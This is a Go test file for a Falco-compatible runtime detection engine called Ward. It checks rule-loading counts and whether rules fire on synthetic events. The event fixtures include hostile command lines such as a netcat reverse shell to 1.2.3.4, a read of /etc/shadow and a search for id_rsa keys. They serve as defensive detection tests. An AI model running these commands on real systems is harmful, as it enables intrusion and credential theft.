package detect

import (
	"slices"
	"testing"

	"github.com/wardsec/ward/internal/event"
)

// Floors measured on falcosecurity/rules c72713e (falco_rules.yaml,
// falco-incubating_rules.yaml, falco-sandbox_rules.yaml: 93 rules). Raise
// them when Ward provides more; a drop means a regression.
const (
	corpusRules       = 93
	corpusActiveFloor = 64
	corpusStableFloor = 18 // of the 25 rules in falco_rules.yaml
)

// TestFalcoCorpus loads the community rules unchanged: no load errors,
// every skipped rule named with its reason, and the number of active
// rules at least the measured floor.
func TestFalcoCorpus(t *testing.T) {
	files := corpusFiles(t)
	eng, rep := Load(files, Config{Hostname: "node-1"})
	for _, e := range rep.Errors {
		t.Errorf("load error: %v", e)
	}
	if len(rep.Rules) != corpusRules {
		t.Errorf("%d rules read, want %d", len(rep.Rules), corpusRules)
	}
	if len(files) != 3 || files[0].Path != "falco_rules.yaml" {
		t.Errorf("corpus files: want falco_rules.yaml, falco-incubating_rules.yaml, falco-sandbox_rules.yaml, got %d", len(files))
	}
	stable := 0
	for _, r := range rep.Rules {
		if r.Reason == ReasonSource {
			t.Errorf("rule %q is not a syscall rule: %s", r.Name, r.Detail)
		}
		switch r.Status {
		case StatusSkipped:
			if r.Reason == "" || r.Detail == "" {
				t.Errorf("rule %q skipped without a reason", r.Name)
			}
			t.Logf("skipped  %-70q %s: %s", r.Name, r.Reason, r.Detail)
		case StatusDisabled:
			t.Logf("disabled %-70q (enabled: false in %s)", r.Name, r.Path)
		case StatusActive:
			if r.Path == "falco_rules.yaml" {
				stable++
			}
		default:
			t.Errorf("rule %q: status %s %s", r.Name, r.Status, r.Detail)
		}
	}
	active := rep.Count(StatusActive)
	t.Logf("falcosecurity rules: %d read, %d active (%d of falco_rules.yaml), %d disabled, %d skipped",
		len(rep.Rules), active, stable, rep.Count(StatusDisabled), rep.Count(StatusSkipped))
	if active < corpusActiveFloor || stable < corpusStableFloor {
		t.Errorf("active rules dropped: %d (floor %d), stable %d (floor %d)", active, corpusActiveFloor, stable, corpusStableFloor)
	}
	if len(eng.Rules()) != active {
		t.Errorf("engine has %d rules, report says %d active", len(eng.Rules()), active)
	}
}

// TestFalcoCorpusDetections checks that community rules fire on the events
// they describe, and stay quiet on near misses.
func TestFalcoCorpusDetections(t *testing.T) {
	eng, _ := loadOK(t, corpusFiles(t)...)
	tty := func(e *event.Event) { e.Proc.TTY = 34816 }
	tests := []struct {
		rule  string
		fire  *event.Event
		quiet *event.Event
	}{
		{"Terminal shell in container",
			execEv(proc("bash"), inPod, tty, ancestors("runc")),
			execEv(proc("bash"), inPod, ancestors("runc"))},
		{"Read sensitive file untrusted",
			openEv(proc("cat", "/etc/shadow"), "/etc/shadow", 0, 0, ancestors("bash", "sshd")),
			openEv(proc("sshd"), "/etc/shadow", 0, 0)},
		{"Launch Package Management Process in Container",
			execEv(proc("apt-get", "install", "curl"), inCtr, ancestors("bash")),
			execEv(proc("apt-get", "install", "curl"), ancestors("bash"))},
		{"PTRACE attached to process",
			newEvent(event.Ptrace, proc("gdb"), func(e *event.Event) { e.Arg.PtraceRequest = 16 }),
			newEvent(event.Ptrace, proc("gdb"), func(e *event.Event) { e.Arg.PtraceRequest = 0 })},
		{"Netcat Remote Code Execution in Container",
			execEv(proc("nc", "-e", "/bin/sh", "1.2.3.4", "4444"), inCtr),
			execEv(proc("nc", "-z", "1.2.3.4", "4444"), inCtr)},
		{"Detect crypto miners using the Stratum protocol",
			execEv(proc("x", "-o", "stratum+tcp://pool:3333")),
			execEv(proc("x", "-o", "https://pool"))},
		{"Write below binary dir",
			openEv(proc("curl"), "/usr/bin/kubectl", 0o1|0o100, 0o755, ancestors("bash")),
			openEv(proc("curl"), "/tmp/kubectl", 0o1|0o100, 0o755, ancestors("bash"))},
		{"Drop and execute new binary in container",
			execEv(proc("evil"), inCtr, func(e *event.Event) { e.Proc.ExeUpperLayer = true }),
			execEv(proc("evil"), inCtr)},
		{"Fileless execution via memfd_create",
			execEv(proc("x"), inCtr, func(e *event.Event) { e.Proc.ExeFromMemfd = true }),
			execEv(proc("x"), inCtr)},
		{"Clear Log Activities",
			openEv(proc("truncate"), "/var/log/auth.log", 0o1|0o1000, 0, ancestors("bash")),
			openEv(proc("truncate"), "/var/log/auth.log", 0o1, 0, ancestors("bash"))},
		{"Search Private Keys or Passwords",
			execEv(proc("find", "/", "-name", "id_rsa")),
			execEv(proc("find", "/", "-name", "notes.txt"))},
		{"Non sudo setuid",
			newEvent(event.Setuid, proc("exploit"), uid(1000), func(e *event.Event) { e.Arg.UID = 0 }),
			newEvent(event.Setuid, proc("sudo"), uid(1000), func(e *event.Event) { e.Arg.UID = 0 })},
		{"Launch Privileged Container",
			execEv(proc("nginx"), inCtr, vpid(1), ancestors("runc"), func(e *event.Event) { e.Container.Privileged = true }),
			execEv(proc("nginx"), inCtr, vpid(1), ancestors("runc"))},
		{"Execution from /dev/shm",
			execEv(proc("x"), func(e *event.Event) { e.Proc.Exe = "/dev/shm/x"; e.Proc.ExePath = "/dev/shm/x" }),
			execEv(proc("x"))},
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			if got := matchNames(eng, tt.fire); !slices.Contains(got, tt.rule) {
				t.Errorf("did not fire; fired %v", got)
			}
			if got := matchNames(eng, tt.quiet); slices.Contains(got, tt.rule) {
				t.Errorf("near miss fired %v", got)
			}
		})
	}
}
